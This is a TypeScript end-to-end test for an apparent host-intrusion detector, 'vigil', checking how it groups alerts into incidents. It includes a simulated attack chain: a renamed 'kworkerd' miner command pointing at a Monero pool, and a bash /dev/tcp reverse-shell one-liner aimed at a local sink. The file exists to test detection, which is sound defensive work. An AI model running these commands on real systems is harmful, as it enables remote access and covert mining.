/**
 * Incidents end to end: a job-like chain run for real under `vigil up` (real bpftrace, NATS, chDB) —
 * python starts a shell that runs a renamed miner, then a bash /dev/tcp reverse shell — becomes ONE
 * incident; `vigil incidents show` tells its tree parent before child; ack and resolve go through the
 * API; after the control plane restarts, the incident is still there and keeps taking the chain's alerts.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { copyFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import type { IncidentDetail, IncidentV1, StatusReport } from '@vigil/schema';
import { startVigilUp, tempDir, vigil, vigilJson, waitFor, type VigilUp } from '../support/harness.js';

const HOST = `inc-${process.pid}`;
const dir = tempDir('inc');
const dataDir = join(dir, 'data');
const miner = join(dir, 'kworkerd');
const go = join(dir, 'go-on');
// The probes the chain needs (a GPU probe would be skipped here: no GPU).
const PROBES = ['--probe', 'exec', '--probe', 'proc', '--probe', 'connect'];
let stack: VigilUp;
let sink: Server;
let chain: ChildProcess;
let incidentId = '';

// The job: mine, open a reverse shell, wait to be told, mine again (same python, same tree).
const JOB = `
import os, subprocess, sys, time
miner, port, go = sys.argv[1:4]
def mine(user):
    subprocess.run(['bash', '-c', f'{miner} 0 -o stratum+tcp://pool.supportxmr.com:3333 -u {user} --donate-level=1; true'])
mine('44AFFq5kSiGBoZ')
subprocess.run(['timeout', '3', 'bash', '-c', f'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; true'])
while not os.path.exists(go):
    time.sleep(0.2)
# Again every 2 s: a busy host's sensor may miss one exec, the job keeps mining.
for _ in range(30):
    mine('48edfHu7V9Z84Y')
    time.sleep(2)
`;

const incidents = (args: string[] = []) => vigilJson<IncidentV1[]>(stack.api, ['incidents', '--host', HOST, ...args]);
const show = (id: string) => vigilJson<IncidentDetail>(stack.api, ['incidents', 'show', id]);

before(async () => {
  copyFileSync('/bin/sleep', miner);
  sink = createServer((s) => {
    s.on('error', () => undefined);
    setTimeout(() => s.destroy(), 200);
  });
  const port = await new Promise<number>((r) =>
    sink.listen(0, '127.0.0.1', () => r((sink.address() as { port: number }).port)),
  );
  writeFileSync(join(dir, 'job.py'), JOB);
  stack = await startVigilUp(dataDir, HOST, PROBES);
  chain = spawn('/usr/bin/python3', [join(dir, 'job.py'), miner, String(port), go], { stdio: 'ignore' });
});

after(async () => {
  chain?.kill('SIGKILL');
  sink?.close();
  assert.equal(await stack?.up.stop(), 0);
});

test('the chain yields one incident with several alerts, rooted at the job, its version growing', async () => {
  const inc = await waitFor(
    'one incident with the miner and the reverse shell',
    () => incidents().find((i) => i.rules.includes('miner.exec') && i.rules.includes('shell.reverse')),
    30_000,
    500,
  );
  incidentId = inc.id;
  const mine = incidents().filter((i) => i.root?.pid === chain.pid || i.processes.some((p) => p.pid === chain.pid));
  assert.deepEqual(
    mine.map((i) => i.id),
    [inc.id],
    'one incident for the chain',
  );
  assert.ok(inc.alertCount >= 2);
  assert.ok(inc.version >= 2, `version ${inc.version} grew as alerts joined`);
  assert.equal(inc.severity, 'critical');
  assert.equal(inc.status, 'open');
  assert.equal(inc.root?.pid, chain.pid, 'the root is the job (python)');
  const status = vigilJson<StatusReport>(stack.api, ['status']);
  assert.ok((status.controlPlane.incidents?.open ?? 0) >= 1);
});

test('vigil incidents show prints the tree with the chain in parent-child order, the timeline and the alerts', () => {
  const d = show(incidentId);
  const kworker = d.tree.find((n) => n.exe.endsWith('/kworkerd'));
  assert.ok(kworker, 'the miner is in the tree');
  const shell = d.tree.find((n) => n.pid === kworker.ppid);
  assert.ok(shell && shell.argv[0] === 'bash', 'its parent is the shell');
  assert.equal(shell.ppid, chain.pid, "the shell's parent is python");
  // Above the root the tree shows its own ancestors as context (not involved): the root is the first involved.
  assert.ok(kworker.involved && shell.involved);
  assert.equal(d.tree.find((n) => n.involved)?.pid, chain.pid);
  assert.ok(
    d.tree
      .slice(
        0,
        d.tree.findIndex((n) => n.involved),
      )
      .every((n) => !n.involved),
  );
  assert.ok(d.timeline.some((e) => e.kind === 'alert'));
  assert.ok(d.timeline.some((e) => e.kind === 'exec' && e.pid === kworker.pid));

  const text = vigil(stack.api, ['incidents', 'show', incidentId]);
  assert.equal(text.status, 0, text.stderr);
  const lines = text.stdout.split('\n');
  const at = (re: RegExp) => lines.findIndex((l) => re.test(l));
  const py = at(new RegExp(`^\\*\\s+(└─ )?${chain.pid} .*python`));
  const sh = at(new RegExp(`^\\*\\s+└─ ${shell.pid} .*bash -c .*kworkerd`));
  const kw = at(new RegExp(`^\\*\\s+└─ ${kworker.pid} .*kworkerd`));
  assert.ok(py >= 0 && py < sh && sh < kw, `python, then its shell, then the miner:\n${text.stdout}`);
  const indent = (i: number) => lines[i]!.indexOf('└─');
  assert.ok(indent(sh) < indent(kw), 'the miner is indented under its shell');
  assert.match(text.stdout, /Timeline:/);
  assert.match(text.stdout, /miner\.exec/);
  assert.match(text.stdout, /shell\.reverse/);
});

test('ack through the API; a second ack is refused with a clear message; an unknown id is not found', () => {
  const acked = vigilJson<IncidentV1>(stack.api, ['incidents', 'ack', incidentId, '--note', 'on it', '--by', 'ann']);
  assert.equal(acked.status, 'acknowledged');
  assert.equal(show(incidentId).incident.statusHistory.at(-1)?.by, 'ann');
  // --json: the error is one line on stdout, unwrapped.
  const again = vigil(stack.api, ['incidents', 'ack', incidentId, '--json']);
  assert.notEqual(again.status, 0);
  assert.match(again.stdout, /is acknowledged: ack applies to open incidents only/);
  const unknown = vigil(stack.api, ['incidents', 'show', 'no-such-incident', '--json']);
  assert.notEqual(unknown.status, 0);
  assert.match(unknown.stdout, /no incident \\"no-such-incident\\"/);
});

test('after a control-plane restart the incident is there and keeps taking the chain alerts; then it is resolved', async () => {
  const before = show(incidentId).incident;
  assert.equal(await stack.up.stop(), 0);
  stack = await startVigilUp(dataDir, HOST, PROBES);
  const back = show(incidentId).incident;
  assert.ok(back.version >= before.version, 'the incident came back as stored (alerts may have joined since)');
  assert.equal(back.status, 'acknowledged');
  const goNs = BigInt(Date.now()) * 1_000_000n;
  writeFileSync(go, '');
  const grown = await waitFor(
    'the miner after the restart joining the incident',
    () => {
      const i = show(incidentId).incident;
      // The miner python runs once told to: an alert after the restart, not one raised again for an old process.
      return i.alerts.some((a) => a.ruleId === 'miner.exec' && BigInt(a.ts) > goNs) ? i : undefined;
    },
    60_000,
    500,
  ).catch((err: Error) => {
    const seen = vigilJson<{ id: string; ruleId: string; proc: { pid: number; ancestry: { pid: number }[] } | null }[]>(
      stack.api,
      ['alerts', '--host', HOST, '--since', '1h'],
    ).map((a) => `${a.ruleId} ${a.proc?.pid} < ${a.proc?.ancestry.map((x) => x.pid).join(' < ')}`);
    const all = incidents().map((i) => `${i.id} ${i.status} ${i.rules.join(',')} root ${i.root?.pid}`);
    const execs = vigilJson<{ proc: { pid: number } }[]>(stack.api, [
      'events',
      '--kind',
      'exec',
      '--host',
      HOST,
      '--comm',
      'kworkerd',
      '--since',
      '1h',
    ]);
    throw new Error(
      `${err.message}\npython exit ${chain.exitCode}; kworkerd execs ${execs.length}\nalerts:\n${seen.join('\n')}\nincidents:\n${all.join('\n')}\npython ${chain.pid}`,
    );
  });
  assert.ok(grown.version > before.version);
  assert.ok(grown.alertCount > before.alertCount);
  assert.equal(grown.status, 'acknowledged');
  assert.equal(incidents().filter((i) => i.root?.pid === chain.pid).length, 1, 'no second incident for the chain');

  const resolved = vigilJson<IncidentV1>(stack.api, [
    'incidents',
    'resolve',
    incidentId,
    '--note',
    'killed, node reimaged',
  ]);
  assert.equal(resolved.status, 'resolved');
  assert.deepEqual(
    incidents(['--status', 'resolved']).map((i) => i.id),
    [incidentId],
  );
  assert.deepEqual(
    show(incidentId).incident.statusHistory.map((h) => `${h.from}>${h.to}`),
    ['open>acknowledged', 'acknowledged>resolved'],
  );
});
